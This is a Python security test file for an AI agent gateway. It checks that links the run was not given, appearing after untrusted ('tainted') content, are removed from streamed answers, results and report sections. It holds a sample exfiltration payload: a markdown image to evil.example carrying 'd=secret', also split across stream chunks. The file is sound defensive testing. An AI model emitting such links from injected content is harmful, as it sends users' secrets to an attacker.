"""Links in what runs say: after content of others only addresses stay that the run was given."""

from typing import Any

import pytest
from gateway_harness.harness import Harness
from gateway_harness.raw_agents import RawAgent, add_raw_agent, success

from bos.agent.v1 import AgentResult
from bos.common.v1 import ReportSection, Source
from bos.composer.v1 import ComposerOutput
from bos.gateway.v1 import OrchestratorResponse, RunEvent
from bos_chassis.links import REMOVED
from bos_chassis.values import make_table, to_value_map
from bos_testkit.plans import step

pytestmark = pytest.mark.security

MADE_UP = "https://evil.example/c?d=secret"
LEAK = f"Done. ![seal]({MADE_UP})"
SHOWN = f"Done. [seal] {REMOVED}"
GIVEN = "https://wiki.example/terms"


@pytest.fixture
async def harness(harness: Harness) -> Harness:
    harness.composer.deltas = ["Done. ![se", "al](https://evil.exam", "ple/c?d=secret)", " Ok."]
    return harness


async def ask(
    harness: Harness, result: AgentResult, *, is_final: bool = False, **request: Any
) -> list[RunEvent]:
    await add_raw_agent(harness, RawAgent("reader", lambda _: result))
    read = step("read", "reader", "read")
    read.is_final_answer = is_final
    harness.planner.steps = [read]
    async with harness.gateway() as client:
        return await client.events(**request)


def response(events: list[RunEvent]) -> OrchestratorResponse:
    return events[-1].run_finished.response


async def test_made_up_link_is_neither_streamed_nor_answered(harness: Harness) -> None:
    events = await ask(harness, success(answer=LEAK, highlights=[LEAK], tainted=True))

    streamed = "".join(e.answer_delta.text for e in events if e.HasField("answer_delta"))
    assert streamed == response(events).answer == f"{SHOWN} Ok."
    (result,) = response(events).agent_results
    assert (result.answer, *result.highlights) == (SHOWN, SHOWN)
    # And nothing that comes after it has read the address.
    assert MADE_UP not in f"{harness.composer.requests}{response(events).agent_results}"
    data = to_value_map({"result": LEAK, "messages": [{"said": LEAK}]})
    said = success(
        answer=LEAK, highlights=[LEAK], followups=[LEAK], caveats=[LEAK], data=data, tainted=True
    )
    final = await ask(harness, said, is_final=True)
    assert response(final).answer == SHOWN
    assert MADE_UP not in str(final)


async def test_sections_of_a_report_have_no_made_up_link(harness: Harness) -> None:
    harness.composer.output = ComposerOutput(
        answer="Done.",
        sections=[ReportSection(heading=LEAK, finding=LEAK, step_ids=["read"], charts=[1])],
    )
    events = await ask(harness, success(answer="Fine.", caveats=[LEAK], tainted=True))

    (section,) = response(events).sections
    assert (section.heading, section.finding) == (SHOWN, SHOWN)
    assert (list(section.step_ids), list(section.charts)) == (["read"], [1])
    assert list(response(events).agent_results[0].caveats) == [SHOWN]
    assert MADE_UP not in str(events)
    (asked,) = harness.composer.requests
    assert list(asked.step_ids) == ["read"]


async def test_address_that_was_given_stays(harness: Harness) -> None:
    answer = f"See {GIVEN}."
    harness.composer.deltas = [answer]
    reader = await harness.plan(RawAgent("reader", lambda _: success()))
    async with harness.gateway() as client:
        for where, given in {
            "address of a source": {"sources": [Source(title="Terms", uri=GIVEN)]},
            "quotation": {"sources": [Source(title="T", excerpt=f"(see [the terms]({GIVEN}))")]},
            "cell": {"table": make_table(["name", "site"], [["Kestrel", GIVEN]])},
            "data": {"data": to_value_map({"chunks": [{"text": f"Read {GIVEN}."}]})},
            "question": {},
        }.items():
            result = success(answer=answer, tainted=True, **given)
            reader.make = lambda _, result=result: result
            question = "What do the terms say?" if given else f"What does {GIVEN} say?"
            found = await client.ask(question)
            assert (found.answer, found.agent_results[0].answer) == (answer, answer), where


async def test_answer_of_an_untainted_run_stays_as_it_is(harness: Harness) -> None:
    events = await ask(harness, success(answer=LEAK))
    assert response(events).answer == f"{LEAK} Ok."
    assert response(events).agent_results[0].answer == LEAK
